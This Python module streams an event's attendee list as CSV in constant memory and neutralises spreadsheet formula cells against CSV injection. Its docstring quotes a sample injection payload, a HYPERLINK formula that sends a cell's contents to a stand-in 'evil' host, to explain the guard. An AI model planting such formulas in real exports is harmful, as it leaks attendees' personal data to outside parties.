"""An event's attendees as CSV (RFC 4180, UTF-8, a header row), in constant memory.

The rows come from a server-side cursor on a connection of its own (a psycopg
named cursor, fetched `BATCH` rows at a time), and each batch is written out
before the next is fetched: 100,000 attendees cost what 2,000 do.

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and some, one that
starts with a tab or a carriage return) as a formula: an attendee named
`=HYPERLINK("http://evil/?"&A2, "Click")` would run in the organiser's Excel. Such
cells get a leading `'` (OWASP, "CSV Injection"), which spreadsheets show as text.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import uuid
from collections.abc import AsyncIterator
from typing import Any

from psycopg import AsyncConnection
from sqlalchemy.ext.asyncio import AsyncEngine

from eventms.tickets.schemas import iso_utc

HEADER = ("name", "email", "registeredAt", "checkedInAt")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BATCH = 2000

_ROWS = """
    SELECT a.name, a.email, r.registered_at, c.checked_in_at
      FROM registrations r
      JOIN attendees a ON a.id = r.attendee_id
      LEFT JOIN checkins c ON c.registration_id = r.id
     WHERE r.event_id = %(event_id)s
     ORDER BY r.created_at, r.id
"""


def guarded(cell: str) -> str:
    """The cell as a spreadsheet will show it, never run it."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def file_name(event_name: str) -> str:
    """`<slug>-attendees.csv`: ASCII letters, digits and dashes only, whatever the
    event is called (no quote, slash or newline can reach the header)."""
    ascii_name = unicodedata.normalize("NFKD", event_name).encode("ascii", "ignore").decode()
    slug = re.sub(r"[^a-z0-9]+", "-", ascii_name.lower()).strip("-")[:60].rstrip("-")
    return f"{slug or 'event'}-attendees.csv"


async def attendee_rows(engine: AsyncEngine, event_id: uuid.UUID) -> AsyncIterator[bytes]:
    """The CSV of the event's attendees, a batch of rows per chunk."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)  # RFC 4180: CRLF line ends, fields quoted when needed
    writer.writerow(HEADER)
    async with engine.connect() as connection:
        raw = await connection.get_raw_connection()
        driver: AsyncConnection[Any] = raw.driver_connection  # type: ignore[assignment]
        # A named cursor lives in a transaction (psycopg opens one); the pool rolls it
        # back when the connection is returned.
        async with driver.cursor(name=f"attendees_csv_{event_id.hex}") as cursor:
            await cursor.execute(_ROWS, {"event_id": event_id})
            while rows := await cursor.fetchmany(BATCH):
                for name, email, registered_at, checked_in_at in rows:
                    writer.writerow(
                        (
                            guarded(name),
                            guarded(email),
                            registered_at.isoformat(),
                            iso_utc(checked_in_at) if checked_in_at is not None else "",
                        )
                    )
                yield buffer.getvalue().encode("utf-8")
                buffer.seek(0)
                buffer.truncate()
    if buffer.tell():  # no rows: the header alone
        yield buffer.getvalue().encode("utf-8")
